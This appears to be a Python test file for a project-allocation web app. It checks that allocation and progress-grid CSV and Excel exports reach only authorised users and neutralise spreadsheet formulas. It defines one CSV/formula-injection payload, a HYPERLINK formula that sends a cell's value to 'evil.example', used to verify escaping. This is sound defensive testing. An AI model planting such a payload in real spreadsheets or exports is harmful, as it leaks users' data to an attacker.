"""The coordinators' exports: the published allocation and the progress grid, as CSV and Excel, for
exactly the people who may see them; a name a spreadsheet would read as a formula stays text."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import datetime, timezone

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from projectflow.core import clock
from projectflow.extensions import db
from projectflow.matching import second_markers, services
from projectflow.matching.models import MarkerAssignment
from projectflow.matching.queries import ALLOCATION_COLUMNS
from projectflow.milestones import extensions
from projectflow.milestones import services as milestone_services

from .conftest import solve

HOSTILE = '=HYPERLINK("http://evil.example/steal?d="&B2,"Ann")'
FEBRUARY = datetime(2027, 2, 15, 10, tzinfo=timezone.utc)


@pytest.fixture
def published(round_, make, smtp_server):
    """The round's allocation, published, with second markers chosen; its first student's name was
    imported as a formula."""
    r = round_
    r.nlp = make.staff(r.cohort, name="Dr Nadia", max_load=3)
    db.session.commit()
    r.run = solve(r.cohort, r.coordinator)
    services.publish_run(r.run, by=r.coordinator)
    second_markers.assign_second_markers(r.cohort, by=r.coordinator)
    r.hostile = min((a.student for a in r.run.allocations), key=lambda u: u.id)  # an allocated student
    r.hostile.name = HOSTILE
    db.session.commit()
    return r


def _links(response) -> dict[str, str]:
    """The page's links: text -> address."""
    page = response.get_data(as_text=True)
    return {" ".join(re.sub(r"<[^>]+>", " ", label).split()): html.unescape(href)
            for href, label in re.findall(r'<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>', page, re.S)}


def _csv(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))


def _xlsx(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    return load_workbook(io.BytesIO(response.data)).active


def _expected_allocation(r) -> dict[str, tuple]:
    enrolled = {e.user_id: e.candidate_number for e in r.cohort.enrolments}
    marker = {m.allocation_id: m.marker.name for m in db.session.scalars(select(MarkerAssignment))}
    return {enrolled[a.student_id]: (a.student.name, a.project.title, a.supervisor.name, a.rank, marker[a.id])
            for a in r.run.allocations}


def test_the_allocation_downloads_for_the_coordinator_and_the_admin(published, make, client, login):
    r = published
    expected = _expected_allocation(r)
    assert len(expected) == 3 and len(r.cohort.enrolments) == 4  # one student is unplaced: not a row
    runs_page = login(r.coordinator, role="coordinator").get(f"/cohorts/{r.cohort.id}/allocation/")
    links = _links(runs_page)
    assert links["Download CSV"] == f"/cohorts/{r.cohort.id}/allocation/allocation.csv"
    assert links["Download Excel"] == f"/cohorts/{r.cohort.id}/allocation/allocation.xlsx"

    rows = _csv(client.get(links["Download CSV"]))
    assert list(rows[0]) == list(ALLOCATION_COLUMNS)
    got = {row["Candidate number"]: (row["Student"], row["Project"], row["Supervisor"], row["Rank"],
                                     row["Second marker"]) for row in rows}
    assert got == {c: (("'" + n) if n == HOSTILE else n, t, s, str(k), m) for c, (n, t, s, k, m) in expected.items()}

    sheet = _xlsx(client.get(links["Download Excel"]))
    assert [c.value for c in sheet[1]] == list(ALLOCATION_COLUMNS)
    assert sheet.freeze_panes == "A2" and sheet.max_row == 4
    names = {sheet.cell(row=i, column=2).value: sheet.cell(row=i, column=2) for i in range(2, 5)}
    hostile = names["'" + HOSTILE]
    assert hostile.data_type == "s"  # text, not a formula
    ranks = [sheet.cell(row=i, column=7).value for i in range(2, 5)]
    assert sorted(ranks) == sorted(k for (_n, _t, _s, k, _m) in expected.values())
    assert all(isinstance(k, int) for k in ranks)  # numbers stay numbers
    client.post("/logout")

    admin = make.admin()
    assert len(_csv(login(admin, role="admin").get(links["Download CSV"]))) == 3


def test_a_hand_placed_student_and_an_own_proposal_say_so_in_the_rank(round_, make, client, login, smtp_server):
    r = round_
    proposal = make.proposal(r.cohort, student=r.students[3], supervisor=r.kim, state="approved")
    run = solve(r.cohort, r.coordinator)
    # A student placed by hand on a project outside their list (as a hand move records it).
    moved = next(a for a in run.allocations if a.rank is not None)
    moved.rank, moved.is_moved = None, True
    services.publish_run(run, by=r.coordinator)
    db.session.commit()
    rows = _csv(login(r.coordinator, role="coordinator").get(f"/cohorts/{r.cohort.id}/allocation/allocation.csv"))
    by_name = {row["Student"]: row for row in rows}
    assert by_name[r.students[3].name]["Rank"] == "own proposal"
    assert by_name[r.students[3].name]["Project"] == proposal.title
    assert by_name[moved.student.name]["Rank"] == "placed by hand"
    assert all(row["Rank"].isdigit() for name, row in by_name.items() if name not in (moved.student.name, r.students[3].name))


def test_the_allocation_export_is_refused_to_everyone_else(published, make, client, login):
    r = published
    url = f"/cohorts/{r.cohort.id}/allocation/allocation.xlsx"
    for person, role in ((r.lee, "staff"), (r.nlp, "staff"), (r.students[1], "student")):
        assert login(person, role=role).get(url).status_code == 403
        client.post("/logout")
    other = make.cohort()
    other_coordinator = next(s.member for s in other.staff if s.is_coordinator)
    assert login(other_coordinator, role="coordinator").get(url).status_code == 403
    client.post("/logout")
    # A cohort with nothing published yet: a sentence, not a file.
    response = login(other_coordinator, role="coordinator").get(f"/cohorts/{other.id}/allocation/allocation.csv")
    assert response.status_code == 404
    assert "no published allocation" in response.get_data(as_text=True)


@pytest.fixture
def progressing(published):
    r = published
    second_markers.publish_second_markers(r.cohort, by=r.coordinator)  # markers see their students' progress
    db.session.commit()
    with clock.frozen(datetime(2026, 11, 20, 9, tzinfo=timezone.utc)):
        r.milestones = milestone_services.create_timeline(r.cohort, by=r.coordinator)
        db.session.commit()
    with clock.frozen(FEBRUARY):
        first = r.milestones[0]
        extensions.grant_directly(first, r.hostile, working_days=3, note="Illness.", by=r.coordinator)
        db.session.commit()
    return r


def _progress_rows(client, r) -> list[dict]:
    return _csv(client.get(f"/cohorts/{r.cohort.id}/progress.csv"))


def test_the_progress_grid_downloads_with_the_rows_its_page_shows(progressing, make, client, login):
    r = progressing
    first = r.milestones[0]
    with clock.frozen(FEBRUARY):
        coordinator = login(r.coordinator, role="coordinator")
        page = coordinator.get(f"/cohorts/{r.cohort.id}/progress")
        links = _links(page)
        assert links["Download CSV"] == f"/cohorts/{r.cohort.id}/progress.csv"
        rows = _progress_rows(coordinator, r)
        assert len(rows) == 4  # every student of the cohort, as on the page
        assert list(rows[0])[:3] == ["Candidate number", "Student", "Supervisor"]
        assert len(rows[0]) == 3 + 5 * len(r.milestones)
        ann = next(row for row in rows if row["Student"] == "'" + HOSTILE)
        assert ann[f"{first.title}: extension"] == "granted"
        assert ann[first.title] in ("Extended", "Not due", "Due soon")
        assert all(row[f"{first.title}: extension"] == "" for row in rows if row is not ann)

        sheet = _xlsx(coordinator.get(links["Download Excel"]))
        student_cells = [sheet.cell(row=i, column=2) for i in range(2, sheet.max_row + 1)]
        assert sheet.max_row == 5 and all(c.data_type == "s" for c in student_cells)
        assert "'" + HOSTILE in [c.value for c in student_cells]
        due = sheet.cell(row=1, column=5).value
        assert due == f"{first.title}: due" and sheet.cell(row=2, column=5).is_date
        client.post("/logout")

        # A supervisor: their students and those they second-mark only (the page's rows), in both formats;
        # the cohort marks anonymously, so the students they second-mark by candidate number only.
        number = {e.user_id: e.candidate_number for e in r.cohort.enrolments}
        lee_students = {a.student.name for a in r.run.allocations if a.supervisor_id == r.lee.id} | {
            f"Candidate {number[m.allocation.student_id]}" for m in db.session.scalars(select(MarkerAssignment))
            if m.marker_id == r.lee.id}
        lee = login(r.lee, role="staff")
        assert {row["Student"].lstrip("'") for row in _progress_rows(lee, r)} == lee_students
        assert _xlsx(lee.get(f"/cohorts/{r.cohort.id}/progress.xlsx")).max_row == 1 + len(lee_students)
        client.post("/logout")

        # A second marker: the students whose work they mark.
        marked = {f"Candidate {number[m.allocation.student_id]}" for m in db.session.scalars(select(MarkerAssignment))
                  if m.marker_id == r.nlp.id}
        assert marked
        nadia = login(r.nlp, role="staff")
        assert {row["Student"].lstrip("'") for row in _progress_rows(nadia, r)} == marked
        client.post("/logout")

        for person, role in ((r.hostile, "student"),):
            assert login(person, role=role).get(f"/cohorts/{r.cohort.id}/progress.xlsx").status_code == 403
            client.post("/logout")
